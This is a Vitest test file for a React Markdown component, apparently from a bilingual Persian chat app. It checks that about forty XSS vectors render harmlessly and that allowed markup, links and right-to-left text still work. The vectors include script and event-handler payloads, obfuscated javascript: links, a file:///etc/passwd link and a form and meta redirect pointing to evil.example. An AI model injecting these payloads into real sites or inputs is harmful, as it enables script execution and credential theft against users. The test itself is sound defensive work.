import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Markdown } from './Markdown.tsx'

const html = (text: string) => renderToStaticMarkup(<Markdown>{text}</Markdown>)

/** Known ways to smuggle something that runs, loads or leads astray into Markdown. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<!--><script>alert(1)</script>-->',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action=//evil.example><button name=password>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/x)',
  '[x](blob:https://sarv.example/1)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  '[x](https://a.example/"onmouseover=alert(1)//)',
  '`<script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '* <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '**<img src=x onerror=alert(1)>**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
]

/** Elements and attributes that can stand in a message. */
const elements = new Set(
  'div p ul ol li strong em del br hr code blockquote table thead tbody tr th td a section button svg path rect span'.split(
    ' ',
  ),
)
const attributes = new Set(
  'class dir start href target rel aria-label aria-hidden aria-live tabindex type width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin d x y rx ry xmlns data-wrapped data-size data-react-aria-pressable data-rac id title role aria-describedby aria-labelledby'.split(
    ' ',
  ),
)

const tags = (text: string) => [...text.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi)]

describe('a message', () => {
  it.each(vectors)('is harmless: %s', (vector) => {
    const drawn = html(vector)
    for (const [, element, rest] of tags(drawn)) {
      expect(elements).toContain(element)
      for (const [, name] of rest!.matchAll(/\s([^\s=]+)=/g)) expect(attributes).toContain(name)
    }
    for (const [, href] of drawn.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?|mailto):/)
    expect(drawn).not.toMatch(/\s(src|style|on\w+)="/i)
  })

  it('shows markup as it was typed', () => expect(html('<b>hi</b>')).toContain('&lt;b&gt;hi&lt;/b&gt;'))

  it('has what people write: lists, code, links, tables, both directions', () => {
    expect(html('**مهم** و *آرام*')).toContain('<strong>مهم</strong> و <em>آرام</em>')
    expect(html('1. یک\n2. دو')).toMatch(/<ol start="1"><li dir="auto">یک/)
    expect(html('`vdb` به `vdc`')).toContain('<code dir="ltr">vdb</code>')
    expect(html('https://sarv.example/docs')).toContain('href="https://sarv.example/docs"')
    expect(html('[راهنما](https://sarv.example/a?b=1&c=2)')).toContain('href="https://sarv.example/a?b=1&amp;c=2"')
    expect(html('یک\nدو')).toContain('یک<br/>دو')
    expect(html('| a | b |\n|---|---|\n| ۱ | ۲ |')).toContain('<td dir="auto">۲</td>')
    expect(html('a & b < c "d"')).toContain('a &amp; b &lt; c &quot;d&quot;')
  })

  it('of ten thousand brackets is drawn all the same', () => {
    expect(html('>'.repeat(3000)).length).toBeGreaterThan(0)
    expect(html('['.repeat(10_000)).length).toBeGreaterThan(0)
    expect(html(`${'- '.repeat(500)}x`).length).toBeGreaterThan(0)
  })
})
